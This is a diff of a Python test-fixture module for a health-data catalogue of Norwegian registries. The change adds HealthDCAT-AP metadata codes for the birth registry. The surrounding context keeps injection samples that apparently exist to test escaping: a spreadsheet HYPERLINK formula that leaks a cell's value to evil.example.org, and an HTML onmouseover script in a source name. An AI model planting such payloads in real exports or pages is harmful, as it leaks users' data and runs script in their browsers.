@@ -35,6 +35,16 @@ XSS = {
 FORMULA = '=HYPERLINK("https://evil.example.org/?leak="&A1,"Klikk")'
 
 
+MFR_HEALTHDCAT: dict[str, object] = {
+    "has_personal_data": [
+        f"https://w3id.org/dpv/dpv-pd#{term}" for term in ("Age", "Gender", "HealthRecord", "Tattoo")
+    ],
+    "generated_by": ["https://hdeu-dcat.data.health.europa.eu/resource/authority/health-activity/HEALTH_REGISTRIES"],
+    "conforms_to": ["https://hdeu-dcat.data.health.europa.eu/resource/authority/standard/FHIR"],
+}
+"""MFR's HealthDCAT-AP statements as codes of vocabularies (the last personal data term one we hold no label for)."""
+
+
 def npr_records() -> list:
     icd = CodeList(
         uri=f"{NPR}/kodeverk/icd10",
@@ -147,7 +157,7 @@ def evil_dataset() -> Dataset:
 
 
 SOURCES = {
-    "mfr": ("central-registry", "Medisinsk fødselsregister", lambda: [mfr_dataset(), apgar_codes()]),
+    "mfr": ("central-registry", "Medisinsk fødselsregister", lambda: [mfr_dataset(**MFR_HEALTHDCAT), apgar_codes()]),
     "npr": ("central-registry", "Norsk pasientregister", npr_records),
     "hunt": ("survey", "HUNT", lambda: [survey_dataset()]),
     "evil": ("catalogue", "<b onmouseover=\"window.__xss='source'\">Evil</b>", lambda: [evil_dataset()]),
